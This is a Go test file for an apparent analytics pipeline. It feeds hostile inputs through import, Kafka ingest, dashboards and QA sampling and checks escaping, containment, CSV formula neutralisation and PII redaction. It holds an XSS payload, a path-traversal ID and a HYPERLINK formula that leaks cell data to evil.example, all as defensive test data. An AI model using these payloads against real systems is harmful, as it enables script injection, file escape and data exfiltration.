package hostile

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/segmentio/kafka-go"
	"github.com/twmb/franz-go/pkg/kfake"

	"github.com/parley-cx/parley/build"
	"github.com/parley-cx/parley/dashboards"
	"github.com/parley-cx/parley/ingest"
	"github.com/parley-cx/parley/internal/event"
	"github.com/parley-cx/parley/internal/lake"
	"github.com/parley-cx/parley/internal/warehouse"
	"github.com/parley-cx/parley/qa"
	"github.com/parley-cx/parley/query"
)

const corpusDir = "../../testdata/hostile"

// The hostile strings of hostile_ids.jsonl that must come out escaped.
const (
	hostileHTML = `<script>alert("parley")</script><img src=x onerror=alert(1)>`
	hostileConv = "../../../../../tmp/parley-escape"
)

// formulaConv is formula_ids.jsonl's conversation: a spreadsheet formula
// that every CSV must neutralise.
const formulaConv = `=HYPERLINK("http://evil.example/?leak="&A1,"open")`

// pii.jsonl: a WhatsApp conversation whose customer id is a phone number
// and whose messages plant personal data in the shapes redaction used to
// miss; its last line re-delivers an event_id with other content (another
// conversation), which the build keeps once and lists as a conflict.
const (
	piiConv           = "pii-whatsapp"
	conflictingCopies = 1
)

// piiPlanted are pii.jsonl's personal data, as they must never appear in
// any QA output (transcripts, index, manifests).
var piiPlanted = []string{
	"447700900123", "4111\u00a01111", "４１１１", "415/555-0132", "06 12 34 56 78", "DE89-3704",
	"jörg", "bücher", "123-45-6789", "QQ 12 34 56 C", "12345678Z", "1984-02-29", "203.0.113.7",
}

// outcome is where a file's lines must land: events in the lake, dead
// letters by reason.
type outcome struct {
	Events int64            `json:"events"`
	Dead   map[string]int64 `json:"dead"`
}

func (o outcome) received() int64 {
	n := o.Events
	for _, d := range o.Dead {
		n += d
	}
	return n
}

func (o *outcome) add(other outcome) {
	o.Events += other.Events
	if o.Dead == nil {
		o.Dead = make(map[string]int64)
	}
	for r, n := range other.Dead {
		o.Dead[r] += n
	}
}

// input is one hostile input file and where its lines must land.
type input struct {
	path string
	want outcome
}

// corpus returns the committed files with their expectations, plus the
// generated ones too large to commit, written to dir.
func corpus(t *testing.T, dir string, longConversation int) []input {
	t.Helper()
	raw, err := os.ReadFile(filepath.Join(corpusDir, "expect.json"))
	if err != nil {
		t.Fatalf("read the corpus expectations: %v", err)
	}
	var expect map[string]outcome
	if err := json.Unmarshal(raw, &expect); err != nil {
		t.Fatal(err)
	}
	files, err := filepath.Glob(filepath.Join(corpusDir, "*.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	var ins []input
	for _, f := range files {
		want, ok := expect[filepath.Base(f)]
		if !ok {
			t.Fatalf("%s has no entry in expect.json", f)
		}
		ins = append(ins, input{f, want})
	}
	if len(ins) != len(expect) {
		t.Fatalf("expect.json names %d files, the corpus has %d", len(expect), len(ins))
	}
	for _, g := range generated(longConversation) {
		path := filepath.Join(dir, g.name)
		if err := os.WriteFile(path, g.data, 0o644); err != nil {
			t.Fatal(err)
		}
		ins = append(ins, input{path, g.want})
	}
	return ins
}

type generatedInput struct {
	name string
	data []byte
	want outcome
}

// generated builds the inputs too large to commit.
func generated(longConversation int) []generatedInput {
	ev := func(id, conv, typ string, at time.Time, extra string) string {
		return fmt.Sprintf(`{"event_id":%q,"conversation_id":%q,"type":%q,"occurred_at":%q,"channel":"webchat","queue":"support","actor":{"role":"customer","id":"cust-g"}%s}`,
			id, conv, typ, at.Format(time.RFC3339Nano), extra)
	}
	day := time.Date(2026, 5, 4, 8, 0, 0, 0, time.UTC)
	huge := ev("g-huge", "c-huge", "message", day, `,"message":{"text":"`+strings.Repeat("A", 10<<20)+`"}`)
	deep := ev("g-deep", "c-deep", "conversation_started", day, `,"nested":`+strings.Repeat("[", 100_000)+strings.Repeat("]", 100_000))

	var long bytes.Buffer
	long.WriteString(ev("g-long-start", "c-long", "conversation_started", day, "") + "\n")
	for i := range longConversation {
		long.WriteString(ev(fmt.Sprintf("g-long-%d", i), "c-long", "message", day.Add(time.Duration(i)*time.Millisecond), `,"message":{"text":"again"}`) + "\n")
	}
	return []generatedInput{
		{"huge_text.jsonl", []byte(huge + "\n"), outcome{Dead: map[string]int64{string(event.ReasonTooLarge): 1}}},
		// 200 kB, well under the size limit: a decoder that recursed per
		// level would blow its stack; this one must decide, not crash.
		{"deep_nesting.jsonl", []byte(deep + "\n"), outcome{Dead: map[string]int64{string(event.ReasonMalformed): 1}}},
		{"long_conversation.jsonl", long.Bytes(), outcome{Events: int64(longConversation) + 1}},
	}
}

// containedIn fails if anything under work, other than in the allowed
// subdirectories, was created: nothing a hostile ID says may escape the lake.
func containedIn(t *testing.T, work string, allowed ...string) {
	t.Helper()
	err := filepath.WalkDir(work, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(work, path)
		if rel == "." {
			return nil
		}
		top := strings.Split(rel, string(filepath.Separator))[0]
		if !slices.Contains(allowed, top) {
			t.Errorf("%s was written outside the allowed directories %v", path, allowed)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(filepath.Join("/tmp", "parley-escape")); err == nil {
		t.Error("/tmp/parley-escape exists: a conversation ID became a path")
	}
}

// lakeCounts reads back, through DuckDB, how many events and dead letters
// (by reason) the lake holds: the files, not the writer's own counters.
func lakeCounts(t *testing.T, root string) outcome {
	t.Helper()
	db, err := warehouse.Open("", false)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	var got outcome
	if err := db.QueryRow("SELECT count(*) FROM read_parquet(?)", lake.EventsGlob(root)).Scan(&got.Events); err != nil {
		t.Fatal(err)
	}
	rows, err := db.Query("SELECT reason, count(*) FROM read_parquet(?) GROUP BY reason", lake.DeadLetterGlob(root))
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	got.Dead = make(map[string]int64)
	for rows.Next() {
		var r string
		var n int64
		if err := rows.Scan(&r, &n); err != nil {
			t.Fatal(err)
		}
		got.Dead[r] = n
	}
	if err := rows.Err(); err != nil {
		t.Fatal(err)
	}
	return got
}

func reasons(m map[event.Reason]int64) map[string]int64 {
	out := make(map[string]int64)
	for r, n := range m {
		out[string(r)] = n
	}
	return out
}

func sameOutcome(a, b outcome) bool {
	clean := func(m map[string]int64) map[string]int64 {
		out := make(map[string]int64)
		for k, v := range m {
			if v != 0 {
				out[k] = v
			}
		}
		return out
	}
	return a.Events == b.Events && maps.Equal(clean(a.Dead), clean(b.Dead))
}

// TestHostileImport imports every hostile file, checks each line landed
// where expected and that counts reconcile three ways (expectation, the
// import's counters, the files read back; a file with no valid line is
// refused whole, its rejections counted in the error), then builds the warehouse,
// renders the dashboards and draws a QA sample from it, and checks that
// no hostile string reaches an HTML page unescaped.
func TestHostileImport(t *testing.T) {
	longConv := 100_000
	if testing.Short() {
		longConv = 1_000
	}
	work := t.TempDir()
	gen := filepath.Join(work, "in")
	if err := os.Mkdir(gen, 0o755); err != nil {
		t.Fatal(err)
	}
	root := filepath.Join(work, "lake")
	ctx := context.Background()
	var total outcome
	for _, in := range corpus(t, gen, longConv) {
		st, err := ingest.Import(ctx, ingest.ImportConfig{Lake: root, Inputs: []string{in.path}})
		if in.want.Events == 0 {
			// An input with no valid line is refused whole: the error
			// counts what was rejected, the lake gets nothing of it.
			var nothing *ingest.NothingImportedError
			if !errors.As(err, &nothing) {
				t.Fatalf("import %s: %v (%s), want it refused: none of its lines is valid", in.path, err, st)
			}
			if got := (outcome{Dead: reasons(nothing.Reasons)}); !sameOutcome(got, in.want) || nothing.Read != in.want.received() || st.Refused != 1 || st.Read != 0 {
				t.Errorf("%s: refused after rejecting %+v of %d lines (%s), want %+v of %d", filepath.Base(in.path), got, nothing.Read, st, in.want, in.want.received())
			}
			continue
		}
		if err != nil {
			t.Fatalf("import %s: %v", in.path, err)
		}
		got := outcome{Events: st.Events, Dead: reasons(st.Reasons)}
		if !sameOutcome(got, in.want) {
			t.Errorf("%s: landed %+v, want %+v", filepath.Base(in.path), got, in.want)
		}
		if st.Read != st.Events+st.DeadLetters || st.Read != in.want.received() {
			t.Errorf("%s: read %d = %d events + %d dead letters, want %d received", filepath.Base(in.path), st.Read, st.Events, st.DeadLetters, in.want.received())
		}
		total.add(in.want)
	}
	if got := lakeCounts(t, root); !sameOutcome(got, total) {
		t.Errorf("lake holds %+v, want %+v", got, total)
	}

	wh := filepath.Join(work, "out", "warehouse.duckdb")
	if err := os.MkdirAll(filepath.Dir(wh), 0o755); err != nil {
		t.Fatal(err)
	}
	if _, err := build.Run(ctx, build.Config{Lake: root, DB: wh}); err != nil {
		t.Fatal(err)
	}
	db, err := warehouse.Open(wh, true)
	if err != nil {
		t.Fatal(err)
	}
	var n int64
	if err := db.QueryRow("SELECT count(*) FROM conversations WHERE conversation_id = ?", hostileConv).Scan(&n); err != nil || n != 1 {
		t.Errorf("the ../ conversation: %d rows, %v", n, err)
	}
	if err := db.QueryRow("SELECT count(*) FROM events").Scan(&n); err != nil || n != total.Events-conflictingCopies {
		t.Errorf("warehouse events = %d (%v), want %d (the lake's, less the dropped conflicting copy)", n, err, total.Events-conflictingCopies)
	}
	if err := db.QueryRow("SELECT duplicate_conflicts FROM warehouse_info").Scan(&n); err != nil || n != conflictingCopies {
		t.Errorf("warehouse_info.duplicate_conflicts = %d (%v), want %d", n, err, conflictingCopies)
	}
	var sqlCSV bytes.Buffer // what parley sql --format csv prints
	if err := query.Write(ctx, db, "SELECT conversation_id, last_queue, most_active_agent_id, customer_id, first_response_s FROM conversations ORDER BY 1", query.FormatCSV, &sqlCSV); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(work, "out", "conversations.csv"), sqlCSV.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}

	day := time.Date(2026, 5, 4, 0, 0, 0, 0, time.UTC)
	if _, err := dashboards.Render(ctx, dashboards.Config{DB: wh, Out: filepath.Join(work, "out", "report"), From: day, To: day}); err != nil {
		t.Fatalf("report: %v", err)
	}
	res, err := qa.Sample(ctx, qa.Config{DB: wh, Out: filepath.Join(work, "out", "qa"), From: day, To: day, Size: 50, Now: day.Add(48 * time.Hour)})
	if err != nil {
		t.Fatalf("qa sample: %v", err)
	}
	sampled, formula, pii := false, false, false
	for _, p := range res.Sampled {
		sampled = sampled || p.ConversationID == hostileConv
		formula = formula || p.ConversationID == formulaConv
		pii = pii || p.ConversationID == piiConv
	}
	if !sampled || !formula || !pii {
		t.Errorf("the hostile conversations were not all sampled (%d picks): the checks below would prove little", len(res.Sampled))
	}
	checkEscaped(t, filepath.Join(work, "out"))
	checkSpreadsheetSafe(t, filepath.Join(work, "out"))
	checkRedacted(t, filepath.Join(work, "out", "qa"))
	containedIn(t, work, "in", "lake", "out")
}

// checkEscaped fails if any HTML page under dir holds a hostile string
// raw, and checks that at least one page shows it escaped (so the string
// did reach the pages and the first check means something).
func checkEscaped(t *testing.T, dir string) {
	t.Helper()
	escaped := 0
	pages := 0
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || filepath.Ext(path) != ".html" {
			return err
		}
		pages++
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		for _, raw := range []string{hostileHTML, `<script>alert(`, `<img src=x`} {
			if bytes.Contains(b, []byte(raw)) {
				t.Errorf("%s holds %q unescaped", path, raw)
			}
		}
		if bytes.Contains(b, []byte(`&lt;script&gt;alert(`)) || bytes.Contains(b, []byte(`\u003cscript\u003ealert(`)) {
			escaped++
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if pages == 0 || escaped == 0 {
		t.Errorf("%d HTML pages, %d showing the hostile HTML escaped; want both > 0", pages, escaped)
	}
}

// checkRedacted fails if any file of the QA outputs under dir holds one of
// pii.jsonl's planted personal data, and checks that the transcripts show
// redaction placeholders (so the conversation did reach them).
func checkRedacted(t *testing.T, dir string) {
	t.Helper()
	placeholders := 0
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		text := string(b)
		for _, p := range piiPlanted {
			raw, err := strconv.Unquote(`"` + p + `"`)
			if err != nil {
				return err
			}
			if strings.Contains(text, raw) {
				t.Errorf("%s holds the planted %q", path, raw)
			}
		}
		if strings.Contains(text, "[card]") && strings.Contains(text, "[iban]") && strings.Contains(text, "[ssn]") {
			placeholders++
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if placeholders == 0 {
		t.Errorf("no QA page under %s shows the pii conversation's placeholders: the check above proves little", dir)
	}
}

// checkSpreadsheetSafe fails if a cell of a CSV under dir would run as a
// spreadsheet formula (it starts with =, +, -, @, tab or carriage return
// and is not a number), and checks that each CSV holds formula_ids.jsonl's
// formula neutralised, so the first check means something.
func checkSpreadsheetSafe(t *testing.T, dir string) {
	t.Helper()
	files := 0
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || filepath.Ext(path) != ".csv" {
			return err
		}
		files++
		f, err := os.Open(path)
		if err != nil {
			return err
		}
		defer f.Close()
		r := csv.NewReader(f)
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		if err != nil {
			return fmt.Errorf("%s: %w", path, err)
		}
		neutralised := false
		for _, row := range rows {
			for _, cell := range row {
				neutralised = neutralised || cell == "'"+formulaConv
				if cell == "" || !strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					continue
				}
				if _, err := strconv.ParseFloat(cell, 64); err != nil {
					t.Errorf("%s: cell %q would run as a formula", path, cell)
				}
			}
		}
		if !neutralised {
			t.Errorf("%s does not hold the neutralised %q", path, formulaConv)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if files < 3 { // manifest.csv, ledger.csv, conversations.csv
		t.Errorf("%d CSV files under %s, want at least 3", files, dir)
	}
}

// TestHostileKafka produces every hostile line to a real (kfake) broker and
// runs ingest on it: every message lands in the lake or the dead-letter
// store with the same reasons as the import, received = written +
// dead-lettered, and nothing is written outside the lake.
func TestHostileKafka(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	const topic = "hostile"
	// kfake directly rather than internal/broker: the broker must accept
	// the 10 MB message (Kafka's default limit is 1 MB) so that ingest, not
	// the broker, is the one to refuse it.
	cluster, err := kfake.NewCluster(kfake.NumBrokers(1), kfake.SeedTopics(2, topic),
		kfake.BrokerConfigs(map[string]string{"message.max.bytes": strconv.Itoa(32 << 20)}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(cluster.Close)
	addr := cluster.ListenAddrs()[0]

	work := t.TempDir()
	gen := filepath.Join(work, "in")
	if err := os.Mkdir(gen, 0o755); err != nil {
		t.Fatal(err)
	}
	var msgs []kafka.Message
	var want outcome
	for _, in := range corpus(t, gen, 1_000) {
		lines := readLines(t, in.path)
		for i, l := range lines {
			msgs = append(msgs, kafka.Message{Key: fmt.Appendf(nil, "%s-%d", filepath.Base(in.path), i), Value: l})
		}
		want.add(in.want)
	}
	w := &kafka.Writer{Addr: kafka.TCP(addr), Topic: topic, BatchBytes: 16 << 20, BatchTimeout: 5 * time.Millisecond, RequiredAcks: kafka.RequireOne}
	if err := w.WriteMessages(ctx, msgs...); err != nil {
		t.Fatalf("produce %d hostile messages: %v", len(msgs), err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}

	root := filepath.Join(work, "lake")
	st, err := ingest.Run(ctx, ingest.Config{Brokers: []string{addr}, Topic: topic, Group: "hostile", Lake: root, UntilIdle: 2 * time.Second})
	if err != nil {
		t.Fatalf("ingest: %v", err)
	}
	if st.Events+st.DeadLetters != int64(len(msgs)) {
		t.Errorf("received %d = %d written + %d dead-lettered? no", len(msgs), st.Events, st.DeadLetters)
	}
	if got := (outcome{Events: st.Events, Dead: reasons(st.Reasons)}); !sameOutcome(got, want) {
		t.Errorf("ingest counted %+v, want %+v", got, want)
	}
	if got := lakeCounts(t, root); !sameOutcome(got, want) {
		t.Errorf("lake holds %+v, want %+v", got, want)
	}
	containedIn(t, work, "in", "lake")
}

// readLines returns the non-blank lines of path, as the importer sees them.
func readLines(t *testing.T, path string) [][]byte {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out [][]byte
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 32<<20)
	for sc.Scan() {
		if len(bytes.TrimSpace(sc.Bytes())) > 0 {
			out = append(out, bytes.Clone(sc.Bytes()))
		}
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}
